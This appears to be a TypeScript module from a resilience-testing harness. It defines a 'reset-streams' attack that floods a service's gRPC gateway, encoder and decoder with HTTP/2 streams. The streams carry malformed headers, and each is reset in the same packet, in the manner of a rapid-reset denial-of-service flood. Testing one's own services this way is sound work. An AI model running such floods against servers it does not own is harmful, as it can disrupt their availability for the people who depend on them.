import type { Random } from "../../simulation/random.js";
import type { Attack, Target } from "../attack.js";
import type { Tally } from "../tally.js";
import {
  endHeaders,
  endStream,
  frameType,
  grpcHeaders,
  headerBlock,
  http2Frame,
  preface,
  rawConnection,
} from "../wire/http2.js";

/** Requests that the server answers with an error of its own making, ended by their sender before it can. */
export const resetStreams: Attack = {
  name: "reset-streams",
  title: "HTTP/2 requests that are no gRPC, each with its RST_STREAM in the same packet",
  setting: "roles",
  unit: "streams",
  count: 30_000,
  short: 600,
  async run(target, random, tally) {
    const urls = [target.gateway, target.encoder, target.decoder];
    for (let turn = 0; tally.goesOn; turn++) {
      await rawConnection(urls[turn % urls.length] as string, target.from, [packet(random, tally, target)], {
        lingerMs: 30,
      });
    }
  },
};

const streams = 20;
const method = "/maskwire.v1.DecoderService/SegmentOnce";

function packet(random: Random, tally: Tally, _target: Target): Buffer {
  const pieces: Buffer[] = [preface, http2Frame(frameType.settings, 0, 0, Buffer.alloc(0))];
  for (let index = 0; index < streams; index++) {
    const stream = 2 * index + 1;
    const flags = endHeaders | (random.below(2) === 0 ? endStream : 0);
    pieces.push(http2Frame(frameType.headers, flags, stream, headerBlock(oddHeaders(random))));
    // Sometimes a little of a message before the end.
    if (random.below(4) === 0 && !(flags & endStream))
      pieces.push(http2Frame(frameType.data, 0, stream, Buffer.from([0, 0, 0, 0, 9, 1])));
    const error = Buffer.alloc(4);
    error.writeUInt32BE(random.below(14));
    pieces.push(http2Frame(frameType.reset, 0, stream, error));
  }
  tally.try(streams);
  return Buffer.concat(pieces);
}

function oddHeaders(random: Random): Record<string, string> {
  const headers = grpcHeaders(method);
  switch (random.below(7)) {
    case 0:
      return { ...headers, "content-type": "text/html" };
    case 1:
      return { ...headers, ":path": "/no.such.Service/Method" };
    case 2:
      return { ...headers, "grpc-timeout": "soon" };
    case 3:
      return { ...headers, "grpc-encoding": "brotli" };
    case 4:
      return { ":method": "GET", ":scheme": "http", ":path": "/", ":authority": "localhost" };
    case 5:
      return { ...headers, ":method": "PUT" };
    default:
      return headers;
  }
}
